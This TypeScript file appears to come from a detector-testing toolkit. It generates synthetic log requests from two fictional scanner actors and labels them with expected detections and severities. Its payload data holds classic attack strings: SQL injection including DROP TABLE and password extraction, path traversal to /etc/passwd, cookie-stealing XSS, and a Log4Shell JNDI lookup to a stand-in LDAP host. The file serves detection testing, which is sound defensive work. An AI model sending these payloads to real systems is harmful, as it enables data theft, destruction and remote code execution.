import { HOUR, MINUTE } from '../../lib/core/time-units.js';
import { type Attack, BELOW, evenly, type Planted, perAddress } from './attack.js';
import { LAST_DAY } from './calendar.js';
import { AGENTS, type Client, client } from './clients.js';
import { inTurn, TURNS } from './evasion.js';
import { addressV4, network } from './places.js';
import type { Request } from './request.js';
import { STAGE } from './routes.js';

interface Payload {
  readonly path: string;
  readonly userAgent?: string;
  readonly route: string;
  readonly status: number;
  readonly error: string;
}

const plain = (path: string, status: number, userAgent?: string): Payload => ({
  path,
  status,
  error: '-',
  route: '/products/{id}',
  ...(userAgent && { userAgent }),
});
const blocked = (path: string, userAgent?: string): Payload => ({
  ...plain(path, 403, userAgent),
  error: 'WAF_FILTERED',
});

// Split, so that nobody takes it for a template literal.
const LOOKUP = ['$', '{jndi:ldap://198.51.100.23:1389/a}'].join('');

/** Of two actors: the first is after the database, the second after the server and its users. */
const PAYLOADS: readonly (readonly Payload[])[] = [
  [
    plain('products/1%27%20OR%20%271%27%3D%271', 404),
    blocked('products/1%20UNION%20SELECT%20name%2Cpassword%20FROM%20users--'),
    plain('products/..%2F..%2F..%2F..%2Fetc%2Fpasswd', 404),
    blocked('products/%252e%252e%252f%252e%252e%252fetc%252fpasswd'),
    plain('products/1%27%3B%20DROP%20TABLE%20orders%3B--', 500),
    plain('products/1%27%20AND%20SLEEP(5)--', 404),
  ],
  [
    blocked('products/%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%3A1389%2Fa%7D'),
    plain('products/prd_latest', 404, LOOKUP),
    plain('products/%3Cscript%3Ealert(1)%3C%2Fscript%3E', 404),
    blocked('products/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'),
    plain('products/prd_latest', 200, '<script>alert(document.cookie)</script>'),
    plain('products/..%5C..%5Cwindows%5Cwin.ini', 404),
  ],
];

const ACTORS = [
  {
    actor: 'Grey Heron',
    home: 'hosting-bucharest',
    host: 901,
    note: 'SQL injection and path traversal; one of them answered 500.',
  },
  {
    actor: 'Paper Wasp',
    home: 'hosting-singapore',
    host: 417,
    note: 'Log4Shell and cross-site scripting in path and user agent; one answered 200.',
  },
] as const;

function request(time: number, caller: Client, payload: Payload): Request {
  const client = payload.userAgent ? { ...caller, userAgent: payload.userAgent } : caller;
  const { route, status, error } = payload;
  const bytes = error === '-' ? (status === 200 ? 1390 : 67) : 23;
  const common = { time, client, method: 'GET', path: `/${STAGE}/${payload.path}`, route, status, error, bytes };
  return { ...common, latency: error === '-' ? 31 : 2, keyId: '-', fingerprint: '-' };
}

/** Two scanners send attack payloads before dawn. */
export const attackSignature: Attack = {
  id: 'attack-signature',
  plan(context) {
    const { intensity, evasion } = context;
    const each = Math.round(18 * intensity);
    if (each === 0) return BELOW;
    const requests: Request[] = [];
    const planted: Planted[] = [];
    for (const [n, { actor, home, host, note }] of ACTORS.entries()) {
      const caller = client(addressV4(network(home), host), AGENTS.bot[2], true);
      const payloads = PAYLOADS[n]!;
      const times = evenly(context, LAST_DAY + 3 * HOUR + (12 + n * 35) * MINUTE, 21 * MINUTE, each);
      const sent = times.map((time, i) =>
        request(time, inTurn(evasion, caller, i, TURNS.ofAddress), payloads[i % payloads.length]!),
      );
      requests.push(...sent);
      planted.push(
        ...perAddress(sent, (own, times) => ({
          attack: 'attack-signature',
          detector: 'attack-signature',
          actor,
          severity: own.some(({ status }) => status < 300 || status >= 500) ? 'high' : 'medium',
          crossing: times[0],
          note,
          mayAlsoFire: [
            'endpoint-scan',
            'client-error-spike',
            'blocklist-spike',
            'scraping',
            'resource-enumeration',
            'server-error-spike',
          ],
        })),
      );
    }
    return { requests, planted };
  },
};
